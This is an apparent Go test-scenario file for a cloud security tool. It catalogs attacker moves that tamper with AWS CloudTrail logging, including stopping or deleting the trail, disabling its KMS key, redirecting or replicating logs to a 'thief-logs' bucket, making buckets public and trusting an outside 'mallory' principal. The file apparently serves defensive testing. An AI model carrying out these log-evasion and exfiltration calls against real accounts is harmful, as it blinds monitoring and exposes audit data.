// SPDX-FileCopyrightText: 2026 The Switchback Authors
// SPDX-License-Identifier: Apache-2.0

package scenario

import (
	"encoding/json"
	"fmt"
	"slices"

	"github.com/switchback-project/switchback/internal/arn"
	"github.com/switchback-project/switchback/internal/benign"
)

// request is one call of a move.
type request struct {
	name  string // "CloudTrail.StopLogging"
	input object
	raw   json.RawMessage // instead of input
	// empties deletes every version of every object of the bucket of that name instead.
	empties string
}

// move is what an attacker, or somebody who means no harm, does at once.
type move struct {
	name  string
	calls func(g *game) []request
}

func call(name string, input object) []request { return []request{{name: name, input: input}} }

// updates is a call of UpdateTrail that changes one field.
func updates(field string, value any) move {
	return move{fmt.Sprintf("update the trail's %s to %v", field, value), func(*game) []request {
		return call("CloudTrail.UpdateTrail", object{"Name": "main", field: value})
	}}
}

// selectors is a call of PutEventSelectors.
func selectors(name string, input object) move {
	return move{name, func(*game) []request {
		in := object{"TrailName": "main"}
		for k, v := range input {
			in[k] = v
		}
		return call("CloudTrail.PutEventSelectors", in)
	}}
}

// onBucket is a call about the trail's bucket.
func onBucket(name, operation string, input object) move {
	return move{name, func(g *game) []request {
		in := object{"Bucket": g.st.seeded.Bucket}
		for k, v := range input {
			in[k] = v
		}
		return call("S3."+operation, in)
	}}
}

// on is one call whose input does not depend on the game.
func on(name, operation string, input object) move {
	return move{name, func(*game) []request { return call(operation, input) }}
}

// everybody is a policy that lets all the world in, and CloudTrail not.
func everybody(action, resource string) string {
	return policyOf(object{"Effect": "Allow", "Principal": object{"AWS": "*"}, "Action": action, "Resource": resource})
}

// tampers are the moves of the attacker: one line a route, so that a new kind joins by a line. What is not here: making
// an identity of ours powerless (iam:PutUserPolicy on the user that the gate is, an SCP): nothing can be put back by whom
// may do nothing; the scenarios denied-* say what is told then.
var tampers = []move{
	// The trail.
	on("stop the trail", "CloudTrail.StopLogging", object{"Name": "main"}),
	on("delete the trail", "CloudTrail.DeleteTrail", object{"Name": "main"}),
	updates("IsMultiRegionTrail", false),
	updates("EnableLogFileValidation", false),
	updates("KmsKeyId", ""),
	updates("SnsTopicName", ""),
	updates("S3BucketName", thiefBucket),
	on("record one region only, without global services", "CloudTrail.UpdateTrail", object{
		"Name": "main", "IsMultiRegionTrail": false, "IncludeGlobalServiceEvents": false,
	}),
	on("lead log files elsewhere", "CloudTrail.UpdateTrail", object{"Name": "main", "S3BucketName": thiefBucket, "S3KeyPrefix": "elsewhere"}),
	{"take the log group from the trail", func(*game) []request {
		return call("CloudTrail.UpdateTrail", object{"Name": "main", "CloudWatchLogsLogGroupArn": "", "CloudWatchLogsRoleArn": ""})
	}},
	selectors("record no management events", object{"EventSelectors": []object{{"ReadWriteType": "ReadOnly", "IncludeManagementEvents": false}}}),
	selectors("record reads only", object{"EventSelectors": []object{{"ReadWriteType": "ReadOnly", "IncludeManagementEvents": true}}}),
	selectors("leave KMS out", object{"EventSelectors": []object{{"ReadWriteType": "All", "IncludeManagementEvents": true, "ExcludeManagementEventSources": []string{"kms.amazonaws.com"}}}}),
	selectors("record data only", object{"AdvancedEventSelectors": []object{{"Name": "data", "FieldSelectors": []object{
		{"Field": "eventCategory", "Equals": []string{"Data"}}, {"Field": "resources.type", "Equals": []string{"AWS::S3::Object"}},
	}}}}),
	on("watch for no unusual calls", "CloudTrail.PutInsightSelectors", object{"TrailName": "main", "InsightSelectors": []object{}}),
	{"take the trail's tags", func(g *game) []request {
		return call("CloudTrail.RemoveTags", object{"ResourceId": g.st.seeded.TrailARN, "TagsList": []object{{"Key": "owner"}}})
	}},
	{"give the trail another tag", func(g *game) []request {
		return call("CloudTrail.AddTags", object{"ResourceId": g.st.seeded.TrailARN, "TagsList": []object{{"Key": "owner", "Value": "nobody"}}})
	}},
	{"burn budgets with the trail's tags", func(g *game) []request {
		var calls []request
		for i := range 40 {
			calls = append(calls, request{name: "CloudTrail.AddTags", input: object{
				"ResourceId": g.st.seeded.TrailARN, "TagsList": []object{{"Key": "owner", "Value": fmt.Sprint("nobody-", i)}},
			}})
		}
		return calls
	}},
	{"stop and delete the trail", func(*game) []request {
		return append(call("CloudTrail.StopLogging", object{"Name": "main"}), call("CloudTrail.DeleteTrail", object{"Name": "main"})...)
	}},

	// Its key.
	{"disable the key", func(g *game) []request { return call("KMS.DisableKey", object{"KeyId": g.st.seeded.KeyARN}) }},
	{"schedule the key's deletion", func(g *game) []request {
		return call("KMS.ScheduleKeyDeletion", object{"KeyId": g.st.seeded.KeyARN, "PendingWindowInDays": 7})
	}},
	{"lock CloudTrail out of the key", func(g *game) []request {
		return call("KMS.PutKeyPolicy", object{"KeyId": g.st.seeded.KeyARN, "Policy": policyOf(object{
			"Effect": "Allow", "Principal": object{"AWS": "arn:aws:iam::111122223333:root"}, "Action": "kms:*", "Resource": "*",
		})})
	}},

	// Its bucket.
	onBucket("delete the bucket's policy", "DeleteBucketPolicy", nil),
	{"open the bucket by its policy", func(g *game) []request {
		return call("S3.PutBucketPolicy", object{
			"Bucket": g.st.seeded.Bucket,
			"Policy": policyOf(object{
				"Effect": "Allow", "Principal": object{"AWS": "arn:aws:iam::" + otherAccount + ":root"}, "Action": "s3:GetObject",
				"Resource": "arn:aws:s3:::" + g.st.seeded.Bucket + "/*",
			}),
		})
	}},
	onBucket("expire log files after a day", "PutBucketLifecycleConfiguration", object{"LifecycleConfiguration": object{"Rules": []object{
		{"ID": "gone", "Status": "Enabled", "Filter": object{"Prefix": ""}, "Expiration": object{"Days": 1}},
	}}}),
	onBucket("suspend versioning", "PutBucketVersioning", object{"VersioningConfiguration": object{"Status": "Suspended"}}),
	onBucket("encrypt with a foreign key", "PutBucketEncryption", object{"ServerSideEncryptionConfiguration": object{"Rules": []object{
		{"ApplyServerSideEncryptionByDefault": object{
			"SSEAlgorithm": "aws:kms", "KMSMasterKeyID": "arn:aws:kms:eu-west-1:444455556666:key/1234abcd-12ab-34cd-56ef-1234567890ab",
		}},
	}}}),
	onBucket("let the world in", "DeletePublicAccessBlock", nil),
	onBucket("let objects be others'", "PutBucketOwnershipControls", object{"OwnershipControls": object{"Rules": []object{{"ObjectOwnership": "ObjectWriter"}}}}),
	onBucket("delete the ownership controls", "DeleteBucketOwnershipControls", nil),
	{"send copies elsewhere", func(g *game) []request {
		return call("S3.PutBucketReplication", object{"Bucket": g.st.seeded.Bucket, "ReplicationConfiguration": object{
			"Role": g.st.roleARN("Operator"),
			"Rules": []object{{
				"ID": "out", "Status": "Enabled", "Priority": 1, "Filter": object{"Prefix": ""}, "DeleteMarkerReplication": object{"Status": "Disabled"},
				"Destination": object{"Bucket": "arn:aws:s3:::" + thiefBucket},
			}},
		}})
	}},
	onBucket("make the requester pay", "PutBucketRequestPayment", object{"RequestPaymentConfiguration": object{"Payer": "Requester"}}),
	{"open the bucket by its access list", func(g *game) []request {
		in := object{"Bucket": g.st.seeded.Bucket}
		return []request{
			{name: "S3.DeletePublicAccessBlock", input: in},
			{name: "S3.PutBucketOwnershipControls", input: object{"Bucket": g.st.seeded.Bucket, "OwnershipControls": object{"Rules": []object{{"ObjectOwnership": "ObjectWriter"}}}}},
			{name: "S3.PutBucketAcl", input: object{"Bucket": g.st.seeded.Bucket, "ACL": "public-read"}},
		}
	}},
	{"delete the bucket", func(g *game) []request {
		return []request{{empties: g.st.seeded.Bucket}, {name: "S3.DeleteBucket", input: object{"Bucket": g.st.seeded.Bucket}}}
	}},

	// Its topic, log group and role.
	{"delete the topic", func(g *game) []request {
		return call("SNS.DeleteTopic", object{"TopicArn": g.st.arnOf("sns", topicName)})
	}},
	{"open the topic", func(g *game) []request {
		topic := g.st.arnOf("sns", topicName)
		return call("SNS.SetTopicAttributes", object{"TopicArn": topic, "AttributeName": "Policy", "AttributeValue": everybody("SNS:Subscribe", topic)})
	}},
	on("delete the log group", "CloudWatch Logs.DeleteLogGroup", object{"LogGroupName": groupName}),
	on("keep logs for a day", "CloudWatch Logs.PutRetentionPolicy", object{"LogGroupName": groupName, "RetentionInDays": 1}),
	on("send logs elsewhere", "CloudWatch Logs.PutSubscriptionFilter", object{
		"LogGroupName": groupName, "FilterName": "out", "FilterPattern": "", "DestinationArn": "arn:aws:lambda:eu-west-1:111122223333:function:out",
	}),
	on("blunt the metric filter", "CloudWatch Logs.PutMetricFilter", object{
		"LogGroupName": groupName, "FilterName": "stops", "FilterPattern": "{$.eventName=Nothing}",
		"MetricTransformations": []object{{"MetricName": "stops", "MetricNamespace": "Trail", "MetricValue": "1"}},
	}),
	on("delete the metric filter", "CloudWatch Logs.DeleteMetricFilter", object{"LogGroupName": groupName, "FilterName": "stops"}),
	on("take the delivery role's policy", "IAM.DeleteRolePolicy", object{"RoleName": roleName, "PolicyName": policyName}),
	on("deny the delivery role everything", "IAM.PutRolePolicy", object{
		"RoleName": roleName, "PolicyName": "no", "PolicyDocument": policyOf(object{"Effect": "Deny", "Action": "*", "Resource": "*"}),
	}),
	on("trust another with the delivery role", "IAM.UpdateAssumeRolePolicy", object{
		"RoleName": roleName, "PolicyDocument": policyOf(object{
			"Effect": "Allow", "Principal": object{"AWS": "arn:aws:iam::111122223333:user/mallory"}, "Action": "sts:AssumeRole",
		}),
	}),
	{"delete the delivery role", func(*game) []request {
		return append(call("IAM.DeleteRolePolicy", object{"RoleName": roleName, "PolicyName": policyName}),
			call("IAM.DeleteRole", object{"RoleName": roleName})...)
	}},

	// Our own parts.
	on("enable our rule, without reads", "EventBridge.EnableRule", object{"Name": ownName}),
	on("disable our rule", "EventBridge.DisableRule", object{"Name": ownName}),
	on("take our rule's target", "EventBridge.RemoveTargets", object{"Rule": ownName, "Ids": []string{"queue"}}),
	on("point our rule elsewhere", "EventBridge.PutTargets", object{"Rule": ownName, "Targets": []object{
		{"Id": "queue", "Arn": "arn:aws:sqs:eu-west-1:111122223333:elsewhere"},
	}}),
	on("open the event bus", "EventBridge.PutPermission", object{"Action": "events:PutEvents", "Principal": "*", "StatementId": "all"}),
	{"delete our rule", func(*game) []request {
		return append(call("EventBridge.RemoveTargets", object{"Rule": ownName, "Ids": []string{"queue"}}),
			call("EventBridge.DeleteRule", object{"Name": ownName})...)
	}},
	on("narrow our rule", "EventBridge.PutRule", object{
		"Name": ownName, "State": "ENABLED", "EventPattern": `{"detail-type":["AWS API Call via CloudTrail"],"detail":{"eventName":["RunInstances"]}}`,
	}),
	on("silence our alarm", "CloudWatch.DisableAlarmActions", object{"AlarmNames": []string{ownName}}),
	on("delete our alarm", "CloudWatch.DeleteAlarms", object{"AlarmNames": []string{ownName}}),
	on("trust another with our role", "IAM.UpdateAssumeRolePolicy", object{
		"RoleName": ownRole, "PolicyDocument": policyOf(object{
			"Effect": "Allow", "Principal": object{"AWS": "arn:aws:iam::111122223333:user/mallory"}, "Action": "sts:AssumeRole",
		}),
	}),
	{"delete our dead letter queue", func(g *game) []request {
		return call("SQS.DeleteQueue", object{"QueueUrl": g.st.seeded.DeadLetterURL})
	}},
	{"keep events for a minute", func(g *game) []request {
		return call("SQS.SetQueueAttributes", object{"QueueUrl": g.st.seeded.QueueURL, "Attributes": object{"MessageRetentionPeriod": "60"}})
	}},
	{"open our queue", func(g *game) []request {
		return call("SQS.SetQueueAttributes", object{"QueueUrl": g.st.seeded.QueueURL, "Attributes": object{
			"Policy": everybody("sqs:ReceiveMessage", g.st.arnOf("sqs", ownQueue)),
		}})
	}},
	on("deny our role everything", "IAM.PutRolePolicy", object{
		"RoleName": ownRole, "PolicyName": "no", "PolicyDocument": policyOf(object{"Effect": "Deny", "Action": "*", "Resource": "*"}),
	}),
	{"lock events out of our queue", func(g *game) []request {
		return call("SQS.SetQueueAttributes", object{"QueueUrl": g.st.seeded.QueueURL, "Attributes": object{"Policy": ""}})
	}},
}

// harmless are moves that weaken nothing: those of the history in which nobody means any harm, and some about what no trail
// depends on.
var harmless = slices.Concat([]move{
	on("make another bucket", "S3.CreateBucket", object{"Bucket": "builds", "CreateBucketConfiguration": object{"LocationConstraint": "eu-west-1"}}),
	on("open another bucket", "S3.PutBucketPolicy", object{"Bucket": thiefBucket, "Policy": everybody("s3:GetObject", "arn:aws:s3:::"+thiefBucket+"/public/*")}),
	on("make another role", "IAM.CreateRole", object{"RoleName": "Build", "AssumeRolePolicyDocument": policyOf(object{
		"Effect": "Allow", "Principal": object{"Service": arn.ServiceHost("ec2")}, "Action": "sts:AssumeRole",
	})}),
	on("make a key", "KMS.CreateKey", object{"Description": "builds"}),
	on("make a log group", "CloudWatch Logs.CreateLogGroup", object{"LogGroupName": "builds"}),
}, quiet())

// quiet are the moves of the history; what their calls are about is known only in a game.
func quiet() []move {
	var moves []move
	for i, c := range callsOf(benign.Protected{
		TrailName: "x", TrailARN: "x", Bucket: "x", BucketPolicy: "{}", KeyARN: "x", LogGroup: "x", Role: "x", Rule: "x", Alarm: "x",
	}) {
		moves = append(moves, move{c.What, func(g *game) []request { return []request{{name: c.Name, raw: g.quiet[i].Input}} }})
	}
	return moves
}

func callsOf(p benign.Protected) []benign.Call {
	calls, err := p.Calls()
	if err != nil {
		panic(err) // strings are encoded
	}
	return calls
}

// thiefBucket is one of the account to which the attacker leads log files.
const thiefBucket = "thief-logs"
